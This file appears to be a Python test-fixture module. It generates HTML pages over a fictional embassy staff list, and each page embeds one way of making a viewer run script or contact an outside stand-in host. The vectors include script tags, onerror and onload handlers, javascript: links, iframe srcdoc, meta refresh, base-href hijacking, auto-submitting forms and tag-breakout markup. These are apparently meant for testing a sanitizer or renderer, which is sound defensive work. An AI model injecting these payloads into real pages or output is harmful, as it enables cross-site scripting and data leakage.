"""Pages that try to act on whoever looks at them: to run, to load, to send, to lead away; each way by itself."""

# ruff: noqa: E501 - each way is one line

from __future__ import annotations

OUTSIDE = "http://outside.invalid"
"""Where they want to go: a name that nobody owns."""
_RUN = f"document.title='ran';window.ran=1;fetch('{OUTSIDE}/ran')"
SETTLED = "addEventListener('load',()=>setTimeout(()=>{window.settled=1},0))"
"""A script that does no harm: where scripts run, it says that the page has loaded and had its turn."""
HEAD = {
    "a script": f"<script>{_RUN}</script>",
    "a script from elsewhere": f"<script src={OUTSIDE}/s.js></script>",
    "a style sheet": f"<link rel=stylesheet href={OUTSIDE}/c.css>",
    "an import in a style": f"<style>@import '{OUTSIDE}/i.css';</style>",
    "a font": f"<style>@font-face{{font-family:x;src:url({OUTSIDE}/f.woff2)}}body{{font-family:x}}</style>",
    "a background": f"<style>body{{background:url({OUTSIDE}/b.png)}}</style>",
    "a refresh": f"<meta http-equiv=refresh content='0;url={OUTSIDE}/refresh'>",
    "a base": f"<base href={OUTSIDE}/ target=_top>",
    "a prefetch": f"<link rel=prefetch href={OUTSIDE}/pre><link rel=preload as=image href={OUTSIDE}/pl.png>",
    "a name to be looked up": f"<link rel=dns-prefetch href={OUTSIDE}><link rel=preconnect href={OUTSIDE}>",
    "an icon": f"<link rel=icon href={OUTSIDE}/icon.png>",
    "a manifest": f"<link rel=manifest href={OUTSIDE}/manifest.json>",
}
BODY = {
    "an image": f"<img src={OUTSIDE}/i.png alt=picture>",
    "an image that fails": f"<img src=x: onerror={_RUN!r}>",
    "a set of images": f"<img srcset='{OUTSIDE}/1.png 1x, {OUTSIDE}/2.png 2x'><picture><source srcset={OUTSIDE}/3.png><img></picture>",
    "a drawing that loads": f"<svg onload={_RUN!r}><image href='{OUTSIDE}/s.png'/><use href='{OUTSIDE}/u.svg#a'/></svg>",
    "a form": f"<form action={OUTSIDE}/form><input name=q autofocus onfocus={_RUN!r}><button>Go</button></form>",
    "a form that sends itself": f"<form id=f action={OUTSIDE}/sent></form><script>document.getElementById('f').submit()</script>",
    "a link": f"<a href={OUTSIDE}/link target=_top ping={OUTSIDE}/ping>Read on</a>",
    "a link that runs": f'<a href="javascript:{_RUN}">Open</a>',
    "a frame": f'<iframe src={OUTSIDE}/frame></iframe><iframe srcdoc="<script>{_RUN}</script>"></iframe>',
    "an object": f"<object data={OUTSIDE}/o></object><embed src={OUTSIDE}/e>",
    "a film and a sound": f"<video src={OUTSIDE}/v poster={OUTSIDE}/p.png autoplay></video><audio src={OUTSIDE}/a autoplay></audio>",
    "a table's background": f"<table background={OUTSIDE}/t.png><tr><td>Mr Dario VELTRAN</td><td>Ambassador</td></tr></table>",
    "an attribute's style": f'<p style="background-image:url({OUTSIDE}/q.png)">Ms Ilse MARKOVAN</p>',
    "an end of our own tags": f"</span></mark></li></ol></section></main><script>{_RUN}</script>",
    "words that look like tags": "&lt;script&gt;window.ran=1&lt;/script&gt;{{ 7*7 }}",
    "a way to the top": f"<script>top.location='{OUTSIDE}/top'</script>",
    "a handler of details": f"<details open ontoggle={_RUN!r}><summary>More</summary></details>",
    "a pointer": f"<div onpointerover={_RUN!r} onmouseover={_RUN!r} tabindex=0>Mr Joran PESTEL</div>",
}
ROWS = (
    "<h1>Embassy of Italy</h1><table><tr><th>Name</th><th>Title</th></tr>"
    "<tr><td>Mr Dario VELTRAN</td><td>Ambassador</td></tr><tr><td>Ms Ilse MARKOVAN</td><td>Counsellor</td></tr>"
    f"<tr><td>Mr Joran PESTEL<img src={OUTSIDE}/cell.png></td><td><a href={OUTSIDE}/cell>First Secretary</a></td></tr>"
    "</table>"
)
"""A list, so that each page has rows to be marked."""


def page(*names: str) -> str:
    """A page of a list with some of these ways in it, or with all."""
    heads = [way for name, way in HEAD.items() if not names or name in names]
    bodies = [way for name, way in BODY.items() if not names or name in names]
    return f"<html><head><title>Staff</title><script>{SETTLED}</script>{''.join(heads)}</head><body>{ROWS}{''.join(bodies)}</body></html>"


def pages() -> dict[str, str]:
    """Each way alone, and all of them in one page."""
    return {**{name: page(name) for name in (*HEAD, *BODY)}, "all": page()}


def grouped(most: int = 5) -> dict[str, str]:
    """All ways, a few in each page, so that none hides behind another; the last page has all of them."""
    names = [*HEAD, *BODY]
    groups = [names[at : at + most] for at in range(0, len(names), most)]
    return {**{", ".join(group): page(*group) for group in groups}, "all": page()}
